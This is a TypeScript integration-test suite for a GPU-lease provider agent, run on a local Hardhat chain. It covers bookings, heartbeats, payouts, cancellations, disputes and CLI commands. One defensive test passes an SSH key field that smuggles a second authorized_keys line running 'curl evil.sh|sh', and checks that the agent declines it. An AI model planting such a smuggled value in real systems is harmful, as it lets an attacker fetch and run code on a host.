import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createServer, type Server } from "node:http";
import { readFile, readdir, writeFile } from "node:fs/promises";
import path from "node:path";
import { hexToBytes, recoverTypedDataAddress, verifyTypedData, type Hex } from "viem";
import { openJson, openWithSharedSecret } from "@gridlease/sdk/crypto";
import { declineEvidenceDomain, declineEvidenceTypes } from "@gridlease/sdk/lease-request";
import { HEARTBEAT_TYPES, heartbeatDomain } from "@gridlease/sdk/heartbeat";
import { providerRegistryAbi } from "@gridlease/sdk/contracts.generated";
import { getDeployment } from "@gridlease/sdk/deployments.generated";
import { privateKeyToAccount } from "viem/accounts";
import { connect, describeError } from "../src/chain";
import { loadConfig, resolveConfig } from "../src/config";
import { AgentProcess, runCli } from "./helpers/agent-process";
import { startHardhatNode, type HardhatNode } from "@gridlease/sdk/local-chain";
import { PROVIDER_KEY, usdc, type Market } from "./helpers/market";
import { prepareProviderHost, type ProviderHost } from "./helpers/provider-host";
const CLAIM_SECONDS = 1800;

let node: HardhatNode;
let host: ProviderHost;
let market: Market;
let dir: string;
let heartbeats: { body: Record<string, unknown> }[];
let declineEvidence: { url: string; body: { chainId: number; sharedSecret: Hex; signature: Hex } }[];
let heartbeatServer: Server;
let providerEncryptionKey: Hex;
let offerId: bigint;
let agent: AgentProcess;
let linesOf: ProviderHost["linesOf"];

beforeAll(async () => {
  node = await startHardhatNode();
  heartbeats = [];
  declineEvidence = [];
  heartbeatServer = createServer((req, res) => {
    let body = "";
    req.on("data", (c) => (body += c));
    req.on("end", () => {
      if (req.url?.endsWith("/decline-evidence")) {
        declineEvidence.push({ url: req.url, body: JSON.parse(body) });
        return void res.writeHead(201).end("{}");
      }
      heartbeats.push({ body: JSON.parse(body) });
      res.writeHead(req.url === "/api/heartbeats" ? 204 : 404).end();
    });
  });
  await new Promise<void>((r) => heartbeatServer.listen(0, "127.0.0.1", r));
  const apiPort = (heartbeatServer.address() as { port: number }).port;
  host = await prepareProviderHost(node.url, { apiUrl: `http://127.0.0.1:${apiPort}`, claimSeconds: CLAIM_SECONDS });
  ({ market, dir, providerEncryptionKey, offerId, linesOf } = host);
  agent = new AgentProcess(host.configPath, host.env);
  await agent.waitForLine(/serving as/);
}, 120_000);

afterAll(async () => {
  await agent?.stop();
  await new Promise((r) => heartbeatServer?.close(r));
  await node?.stop();
});

/** The provider's stake as the registry holds it now. */
async function providerStake(): Promise<bigint> {
  const provider = await market.publicClient.readContract({
    address: market.deployment.registry.address,
    abi: providerRegistryAbi,
    functionName: "getProvider",
    args: [market.provider.address],
  });
  return provider.stake;
}

describe("gridlease-agent serve against a Hardhat node", () => {
  let leaseId: bigint;

  it("accepts a booking, and the renter decrypts exactly what the provisioning script printed", async () => {
    leaseId = await market.book({ offerId, providerEncryptionKey, gpus: 2, hours: 4 });
    const accepted = await market.waitFor("LeaseAccepted", async () => (await market.events("LeaseAccepted", leaseId))[0]);
    const printed = JSON.parse(await readFile(path.join(dir, "test-state/envs", `lease-${leaseId}`, "access.json"), "utf8"));
    expect(openJson(market.renterKeys, accepted.args.encryptedAccess!, market.accessContext(leaseId))).toEqual(printed);
    expect(printed).toMatchObject({ user: `lease${leaseId}`, gpuIndices: "0,1" });
    // The script saw the decrypted request and the lease terms.
    const input = JSON.parse(await readFile(path.join(dir, "test-state/envs", `lease-${leaseId}`, "lease.json"), "utf8"));
    expect(input).toMatchObject({
      event: "provision",
      leaseId: leaseId.toString(),
      gpus: 2,
      gpuModel: "H100-SXM",
      gpuIndices: [0, 1],
      durationHours: 4,
      pricePerGpuHour: "2",
    });
    expect(input.sshPublicKey).toMatch(/^ssh-ed25519 /);
    expect((await market.getLease(leaseId)).status).toBe(2);
    expect(await linesOf("provision-runs.log")).toEqual([leaseId.toString()]);
    // Issue 10, low: the script got the lease facts and the provider's configured env, nothing else of the agent's.
    const scriptEnv = (await linesOf(`provision-env-${leaseId}.txt`)).map((l) => l.split("=")[0]);
    expect(scriptEnv).toContain("GRIDLEASE_LEASE_ID");
    expect(scriptEnv).toContain("PATH");
    const allowed = new Set(["PATH", "HOME", "LANG", "LC_ALL", "TZ", "GRIDLEASE_TEST_STATE", "PWD", "SHLVL", "_", "OLDPWD"]);
    expect(
      scriptEnv.filter(
        (name) => !allowed.has(name) && !/^GRIDLEASE_(EVENT|LEASE_ID|GPUS|GPU_INDICES|GPU_UUIDS|DURATION_HOURS|SSH_PUBLIC_KEY|RENTER|REASON)$/.test(name),
      ),
    ).toEqual([]);
    expect(host.env.GRIDLEASE_PASSPHRASE).toBeTruthy(); // the agent was given one, and the script did not get it
  });

  it("sends EIP-712 heartbeats signed by the provider key for this deployment's registry, listing its active offers", async () => {
    const heartbeat = await market.waitFor("a heartbeat", async () => heartbeats.at(-1));
    const body = heartbeat.body as { provider: Hex; timestamp: number; offerIds: string[]; chainId: number; signature: Hex };
    expect(body).toMatchObject({ provider: market.provider.address, offerIds: ["1"], chainId: 31337 });
    const valid = await verifyTypedData({
      address: market.provider.address,
      domain: heartbeatDomain({ chainId: 31337, registry: market.deployment.registry.address }),
      types: HEARTBEAT_TYPES,
      primaryType: "Heartbeat",
      message: { provider: body.provider, timestamp: BigInt(body.timestamp), offerIds: body.offerIds.map(BigInt) },
      signature: body.signature,
    });
    expect(valid).toBe(true);
  });

  it("claims accrued earnings on its schedule", async () => {
    const before = await market.balanceOf(market.provider.address);
    await market.increaseTime(CLAIM_SECONDS + 1);
    const claimed = await market.waitFor("EarningsClaimed", async () => (await market.events("EarningsClaimed", leaseId))[0]);
    const { gross, fee } = claimed.args;
    // 2 GPUs × 2 USDC/h × ~0.5 h, minus the 2.5 % protocol fee.
    expect(gross).toBeGreaterThanOrEqual(usdc("2"));
    expect(gross).toBeLessThan(usdc("2.01"));
    expect(fee).toBe((gross! * 250n) / 10_000n);
    expect(await market.balanceOf(market.provider.address)).toBe(before + gross! - fee!);
  });

  it("runs the deprovision command when the renter cancels", async () => {
    await market.renterCall("cancel", leaseId);
    await agent.waitForLine(new RegExp(`lease ${leaseId}: access revoked\\.`));
    expect(await linesOf("deprovision-runs.log")).toEqual([`${leaseId} the lease was closed (CancelledByRenter)`]);
    expect(await readdir(path.join(dir, "test-state/envs"))).not.toContain(`lease-${leaseId}`);
  });

  it("gives bookings that arrive together different GPUs", async () => {
    const leases = [
      await market.book({ offerId, providerEncryptionKey, gpus: 3 }),
      await market.book({ offerId, providerEncryptionKey, gpus: 3 }),
      await market.book({ offerId, providerEncryptionKey, gpus: 2 }),
    ];
    const granted: number[][] = [];
    for (const id of leases) {
      const accepted = await market.waitFor("LeaseAccepted", async () => (await market.events("LeaseAccepted", id))[0]);
      granted.push(
        openJson<{ gpuIndices: string }>(market.renterKeys, accepted.args.encryptedAccess!, market.accessContext(id)).gpuIndices.split(",").map(Number),
      );
    }
    expect(granted.map((g) => g.length)).toEqual([3, 3, 2]);
    expect(granted.flat().sort()).toEqual([0, 1, 2, 3, 4, 5, 6, 7]);
    for (const id of leases) await market.renterCall("cancel", id);
    for (const id of leases) await agent.waitForLine(new RegExp(`lease ${id}: access revoked\\.`));
  });

  // Issue 12: a failed provisioning used to wait out the accept window, and the renter's reclaim slashed the provider.
  it("declines at once when the provisioning script fails or hangs, logs why, and the provider is not slashed", async () => {
    const stakeBefore = await providerStake();
    const failing = await market.book({ offerId, providerEncryptionKey, note: "fail" });
    const hanging = await market.book({ offerId, providerEncryptionKey, note: "hang" });
    await agent.waitForLine(
      new RegExp(
        `lease ${failing}: provisioning failed, declining the lease: .*provision\\.sh exited with code 1; stderr: simulated failure: no space left on device`,
      ),
    );
    await agent.waitForLine(new RegExp(`lease ${hanging}: provisioning failed, declining the lease: .*provision\\.sh timed out after 2s`));
    for (const id of [failing, hanging]) {
      const closed = await market.waitFor("LeaseClosed", async () => (await market.events("LeaseClosed", id))[0]);
      expect(closed.args.reason).toBe(5); // ProviderFault: declined, full refund, no slash
      expect(closed.args.renterRefund).toBe(usdc("4"));
    }
    expect(await market.events("LeaseAccepted", failing)).toEqual([]);
    expect(await market.events("LeaseAccepted", hanging)).toEqual([]);
    const stakeAfter = await providerStake();
    expect(stakeAfter).toBe(stakeBefore);
    // The half-made environments were cleaned up, and neither lease was provisioned twice.
    const runs = await linesOf("provision-runs.log");
    expect(runs.filter((r) => r === failing.toString() || r === hanging.toString()).sort()).toEqual([failing.toString(), hanging.toString()].sort());
  });

  it("declines a booking whose request could smuggle a second authorized_keys line, without running the script", async () => {
    const lease = await market.book({ offerId, providerEncryptionKey, sshPublicKey: 'ssh-ed25519 AAAAC3Nza renter\ncommand="curl evil.sh|sh" ssh-rsa AAAAB3' });
    await agent.waitForLine(
      new RegExp(`lease ${lease}: declining: the renter's request is malformed \\(sshPublicKey: not a single-line OpenSSH public key\\)`),
    );
    const closed = await market.waitFor("LeaseClosed", async () => (await market.events("LeaseClosed", lease))[0]);
    expect(closed.args.reason).toBe(5); // ProviderFault: full refund
    expect(closed.args.renterRefund).toBe(usdc("4"));
    expect(closed.args.providerTotal).toBe(0n);
    expect(await linesOf("provision-runs.log")).not.toContain(lease.toString());
  });

  // Issue 10, C1: an all-zero (low-order) renter key passed the check, the script ran, sealing threw, and every poll re-ran the script.
  it("declines a booking whose renter key is low-order, never runs the script, and publishes decline evidence", async () => {
    const lease = await market.book({ offerId, providerEncryptionKey, renterEncryptionKey: `0x${"00".repeat(32)}` });
    await agent.waitForLine(new RegExp(`lease ${lease}: declining: the renter's request is malformed \\(renterEncryptionKey: a low-order X25519 point`));
    await market.waitFor("LeaseClosed", async () => (await market.events("LeaseClosed", lease))[0]);
    const evidence = await market.waitFor("decline evidence", async () => declineEvidence.find((e) => e.url === `/api/leases/${lease}/decline-evidence`));
    // The revealed secret opens exactly this request, and the provider wallet signed it for this escrow and lease.
    const [booked] = await market.events("LeaseBooked", lease);
    const opened = JSON.parse(
      new TextDecoder().decode(
        openWithSharedSecret(hexToBytes(evidence.body.sharedSecret), hexToBytes(providerEncryptionKey), hexToBytes(booked.args.encryptedRequest!), {
          kind: "request",
          chainId: 31337,
          escrow: market.deployment.escrow.address,
          offerId,
          renter: market.renter.address,
        }),
      ),
    );
    expect(opened.renterEncryptionKey).toBe(`0x${"00".repeat(32)}`);
    const signer = await recoverTypedDataAddress({
      domain: declineEvidenceDomain(31337, market.deployment.escrow.address),
      types: declineEvidenceTypes,
      primaryType: "DeclineEvidence",
      message: { leaseId: lease, sharedSecret: evidence.body.sharedSecret },
      signature: evidence.body.signature,
    });
    expect(signer).toBe(market.provider.address);
    await new Promise((r) => setTimeout(r, 1000)); // five more polls
    expect(await linesOf("provision-runs.log")).not.toContain(lease.toString());
  });

  it("journals provision-failed and deprovisions once when the escrow refuses the accept after provisioning", async () => {
    const lease = await market.book({ offerId, providerEncryptionKey, note: "wait-go" });
    await agent.waitForLine(new RegExp(`lease ${lease}: provisioning 1× H100-SXM`));
    // The accept window closes while the script runs, so the escrow refuses the accept that follows.
    await market.increaseTime(15 * 60 + 1);
    await writeFile(path.join(dir, `test-state/go-${lease}`), "");
    await agent.waitForLine(new RegExp(`lease ${lease}: provisioning failed, declining the lease: the escrow refused the accept: AcceptWindowClosed`));
    await agent.waitForLine(new RegExp(`lease ${lease}: access revoked\\.`));
    // Declined at once rather than left for the renter's reclaim. Contracts v2 (M-1): after the accept window
    // any close of a pending lease is a no-show (NotAccepted) with the lease's no-show slash, whoever calls it;
    // this 4 USDC booking is below the minimum slashable deposit, so nothing is slashed.
    expect((await market.getLease(lease)).closeReason).toBe(3);
    expect(await market.publicClient.readContract({ ...market.escrow, functionName: "noShowSlash", args: [lease] })).toBe(0n);
    await new Promise((r) => setTimeout(r, 1000)); // five more polls
    const journal = await readFile(path.join(dir, "agent-state/journal.jsonl"), "utf8");
    expect(journal).toMatch(new RegExp(`"event":"provision-failed","leaseId":"${lease}","reason":"the escrow refused the accept: AcceptWindowClosed`));
    expect((await linesOf("provision-runs.log")).filter((l) => l === lease.toString())).toHaveLength(1);
    expect((await linesOf("deprovision-runs.log")).filter((l) => l.startsWith(`${lease} `))).toEqual([`${lease} cleanup after failed provisioning`]);
  });

  it("revokes access and collects the rest when the lease runs out", async () => {
    const lease = await market.book({ offerId, providerEncryptionKey, hours: 1 });
    await market.waitFor("LeaseAccepted", async () => (await market.events("LeaseAccepted", lease))[0]);
    await market.increaseTime(3600);
    const closed = await market.waitFor("LeaseClosed", async () => (await market.events("LeaseClosed", lease))[0]);
    expect(closed.args.reason).toBe(1);
    // The provider got the whole deposit net of fees: 1 GPU × 1 h × 2 USDC.
    expect(closed.args.providerTotal! + closed.args.feeTotal!).toBe(usdc("2"));
    await agent.waitForLine(new RegExp(`lease ${lease}: access revoked\\.`));
    expect(await linesOf("deprovision-runs.log")).toContain(`${lease} the lease ended`);
  });

  it("follows an extension: access lasts until the new end", async () => {
    const lease = await market.book({ offerId, providerEncryptionKey, hours: 1 });
    await market.waitFor("LeaseAccepted", async () => (await market.events("LeaseAccepted", lease))[0]);
    await market.extend(lease, 1);
    await market.increaseTime(3600);
    await new Promise((r) => setTimeout(r, 1000)); // five polls past the original end
    expect(agent.lines.some((l) => l.includes(`lease ${lease}: revoking access`))).toBe(false);
    expect((await market.getLease(lease)).status).toBe(2);
    await market.increaseTime(3600);
    await agent.waitForLine(new RegExp(`lease ${lease}: access revoked\\.`));
    const closed = await market.waitFor("LeaseClosed", async () => (await market.events("LeaseClosed", lease))[0]);
    expect(closed.args.providerTotal! + closed.args.feeTotal!).toBe(usdc("4")); // 2 h × 2 USDC
  });

  it("keeps access during a dispute and revokes it when the arbiter resolves it", async () => {
    const lease = await market.book({ offerId, providerEncryptionKey });
    await market.waitFor("LeaseAccepted", async () => (await market.events("LeaseAccepted", lease))[0]);
    await market.openDispute(lease);
    await new Promise((r) => setTimeout(r, 1000)); // five polls of a disputed lease
    expect(agent.lines.some((l) => l.includes(`lease ${lease}: revoking access`))).toBe(false);
    await market.resolveForRenter(lease);
    await agent.waitForLine(new RegExp(`lease ${lease}: access revoked\\.`));
    expect(await linesOf("deprovision-runs.log")).toContain(`${lease} the lease was closed (DisputeResolved)`);
  });

  it("status reports the registration and offers; offers pause, and list resumes and updates the price in place", async () => {
    const status = await runCli(["-c", host.configPath, "status"], host.env);
    expect(status.stdout).toContain(`Provider ${market.provider.address} on chain 31337: registered, encryption key matches`);
    expect(status.stdout).toMatch(/offer 1: Active, 8× H100-SXM in eu-west, \d GPU\(s\) booked, 2 USDC\/GPU\/h/);

    expect((await runCli(["-c", host.configPath, "offers", "pause"], host.env)).stdout).toContain("Offer 1 (8× H100-SXM): paused.");
    expect((await runCli(["-c", host.configPath, "offers", "resume", "7"], host.env)).stderr).toContain("Offer 7 is not one of");
    // `list` resumes a paused offer that still matches the host.
    expect((await runCli(["-c", host.configPath, "list"], host.env)).stdout).toContain("Offer 1: resumed.");
    await host.writeConfig({ offer: { region: "eu-west", pricePerGpuHour: "2.35", minHours: 1, maxHours: 48, bandwidthMbps: 10000 } });
    const relist = await runCli(["-c", host.configPath, "list"], host.env);
    expect(relist.stdout).toContain("Offer 1 (8× H100-SXM): price updated to 2.35 USDC/GPU/h.");
    expect(relist.stdout).toContain("Offers: 1\n");
    const offer = await market.publicClient.readContract({
      address: market.deployment.registry.address,
      abi: providerRegistryAbi,
      functionName: "getOffer",
      args: [1n],
    });
    expect(offer.spec.pricePerGpuHour).toBe(usdc("2.35"));
  });

  it("reports a transaction that would revert by the contract's error name, without sending it", async () => {
    const config = await loadConfig(host.configPath);
    const ctx = await connect(config, privateKeyToAccount(PROVIDER_KEY));
    const nonce = await market.publicClient.getTransactionCount({ address: market.provider.address });
    const error = await ctx.sender.send({ ...market.escrow, functionName: "accept", args: [999n, "0x01"] }).catch((e: unknown) => e);
    expect(describeError(error)).toBe("UnknownLease(999)");
    expect(await market.publicClient.getTransactionCount({ address: market.provider.address })).toBe(nonce);
  });

  it("finds the contracts from the SDK's recorded deployment when the config names none", async () => {
    const { contracts: _named, ...rest } = JSON.parse(await readFile(host.configPath, "utf8"));
    const ctx = await connect(resolveConfig(rest, dir), privateKeyToAccount(PROVIDER_KEY));
    const recorded = getDeployment(31337);
    expect(ctx.contracts).toEqual({
      registry: recorded.registry.address,
      escrow: recorded.escrow.address,
      token: recorded.token.address,
      deployBlock: recorded.registry.deployBlock,
    });
  });

  it("shuts down cleanly on SIGTERM", async () => {
    expect(await agent.stop()).toEqual({ code: 0, signal: null });
    expect(agent.lines.at(-1)).toMatch(/INFO {2}stopped\.$/);
    // Every lease of this suite is settled, so a restart would not rescan any of their bookings.
    const lastBooking = (await market.publicClient.getContractEvents({ ...market.escrow, eventName: "LeaseBooked", fromBlock: 0n })).at(-1)!;
    const { block } = JSON.parse(await readFile(path.join(dir, "agent-state/scan-checkpoint.json"), "utf8"));
    expect(BigInt(block)).toBeGreaterThan(lastBooking.blockNumber);
  });
});
